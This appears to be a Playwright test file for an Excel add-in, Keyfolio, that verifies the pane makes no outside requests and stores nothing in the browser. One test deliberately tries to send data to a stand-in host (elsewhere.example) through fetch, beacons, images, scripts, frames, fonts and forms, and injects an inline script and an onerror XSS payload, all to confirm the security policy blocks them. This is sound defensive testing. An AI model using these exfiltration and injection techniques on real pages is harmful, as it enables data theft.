/** Nothing leaves the workbook: no request to anywhere but the add-in's own files and Office.js, nothing kept in the browser. */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { writeWorkbook } from "../../src/host/xlsx";
import { listOfPlainNames, plainNames } from "../plain-names";
import { paneOf, workbenches, type OpenWorkbench } from "./workbench";

const open = workbenches();
let folder: string;
beforeAll(() => (folder = mkdtempSync(path.join(tmpdir(), "keyfolio-leaks-"))));
afterAll(() => rmSync(folder, { recursive: true }));

/** The frame of the pane. */
function paneFrame({ page }: OpenWorkbench) {
  return page.frames().find((frame) => frame.url().includes("/pane/"))!;
}

/** What the pane's own browser storage holds, whichever kind it is. */
function keptIn(excel: OpenWorkbench): Promise<string[]> {
  return paneFrame(excel).evaluate(async () => [
    ...Object.entries(localStorage).map(([key, value]) => `localStorage ${key}: ${value}`),
    ...Object.entries(sessionStorage).map(([key, value]) => `sessionStorage ${key}: ${value}`),
    ...(document.cookie === "" ? [] : [`cookie ${document.cookie}`]),
    ...(await indexedDB.databases()).map(({ name }) => `database ${name}`),
    ...(await caches.keys()).map((name) => `cache ${name}`),
  ]);
}

it("the pane is used from end to end on names that look like code: nothing is asked of anybody else", async () => {
  const excel = await open();
  const asked = new Set<string>();
  excel.page.on("request", (request) => asked.add(request.url()));
  const { pane, texts, page } = excel;
  const { step, button } = paneOf(excel);
  const { firstRun, run, results, rules } = texts.pane;
  const { whatIf } = texts;
  const file = path.join(folder, "names.xlsx");
  writeFileSync(file, await writeWorkbook(listOfPlainNames()));
  await excel.openFile(file);

  await button(firstRun.start).click();
  await step("run").click();
  await button(run.jobs.classifyAndReport).click();
  await pane.getByText(run.done.classifyAndReport).waitFor();
  await step("results").click();
  await pane.getByRole("heading", { name: results.list, exact: true }).waitFor();
  for (const name of plainNames.slice(0, 5))
    await pane.getByRole("listitem").getByText(name, { exact: true }).first().waitFor();
  await button(whatIf.quick.largest).click();
  await pane.getByText(whatIf.gaps).waitFor();
  await step("dataQuality").click();
  await step("rules").click();
  await pane.getByRole("heading", { name: rules.file.title }).click();
  const saved = page.waitForEvent("download");
  await button(rules.file.save).click();
  expect((await saved).url()).toMatch(/^blob:/);
  await excel.quiet();

  const own = new URL(page.url()).origin;
  const elsewhere = [...asked].filter((url) => !/^(blob|data):/.test(url) && new URL(url).origin !== own);
  expect(elsewhere).toEqual([]);
  expect([...asked].filter((url) => /\/pane\/taskpane\.js|\/office-js\/office\.js/.test(url))).toHaveLength(
    2,
  );
  expect(await paneFrame(excel).title()).toBe("Keyfolio");
  // What Office.js keeps of its host for as long as the page lives; nothing of the workbook is in it.
  const ofOffice = ["hostInfoValue", "1CachedSessionSettings: {}"].map((entry) => `sessionStorage ${entry}`);
  const kept = await keptIn(excel);
  expect(kept.filter((entry) => !ofOffice.some((known) => entry.startsWith(known)))).toEqual([]);
  expect(excel.errors).toEqual([]);
});

it("the page's policy lets nothing out, however it is tried", async () => {
  const excel = await open();
  const asked: string[] = [];
  await excel.page.route("https://elsewhere.example/**", (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const refused = await paneFrame(excel).evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    );
    const address = "https://elsewhere.example/?client=Aster";
    await fetch(address).catch(() => undefined);
    navigator.sendBeacon(address, "Aster");
    new Image().src = address;
    const append = (tag: string, attributes: object) =>
      document.body.append(Object.assign(document.createElement(tag), attributes));
    append("script", { src: address });
    append("script", { textContent: "document.title = 'taken'" });
    append("iframe", { src: address });
    append("link", { rel: "stylesheet", href: address });
    append("style", {
      textContent: `@font-face { font-family: x; src: url(${address}) } body { font-family: x }`,
    });
    append("div", { innerHTML: "<img src=x onerror=\"document.title='taken'\">" });
    const form = Object.assign(document.createElement("form"), { action: address, target: "elsewhere" });
    append("iframe", { name: "elsewhere" });
    document.body.append(form);
    form.submit();
    await new Promise((done) => setTimeout(done, 1000));
    return [...new Set(violations)].sort();
  });
  expect(refused).toEqual([
    "connect-src",
    "font-src",
    "form-action",
    "frame-src",
    "img-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-elem",
  ]);
  expect(asked).toEqual([]);
  expect(await paneFrame(excel).title()).toBe("Keyfolio");
});

it.each(["Excel$Web$16.00", "Excel$Win32$16.01", "Excel$Mac$16.00"])(
  "the page as it is delivered loads Office.js from its network, and its policy hinders nothing: %s",
  async (hostInfo) => {
    const { page } = await open();
    const asked: string[] = [];
    const refused: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    page.on("console", (message) => {
      if (/Content Security Policy/.test(message.text())) refused.push(message.text());
    });
    const network = "https://appsforoffice.microsoft.com/lib/1/hosted/";
    const published = path.join(path.dirname(require.resolve("@microsoft/office-js/package.json")), "dist");
    await page.route(`${network}**`, (route) =>
      route.fulfill({
        path: path.join(published, new URL(route.request().url()).pathname.slice("/lib/1/hosted/".length)),
      }),
    );
    await page.goto(`${process.env.KEYFOLIO_WORKBENCH}/taskpane.html?_host_Info=${hostInfo}$en-US$$$$0`);
    await page.waitForTimeout(3000);
    const own = `${process.env.KEYFOLIO_WORKBENCH}/`;
    expect(asked.filter((url) => !url.startsWith(own) && !url.startsWith(network))).toEqual([]);
    expect(asked.filter((url) => /\/hosted\/excel-|\/office_strings\.js/.test(url))).toHaveLength(2);
    expect(refused).toEqual([]);
  },
);
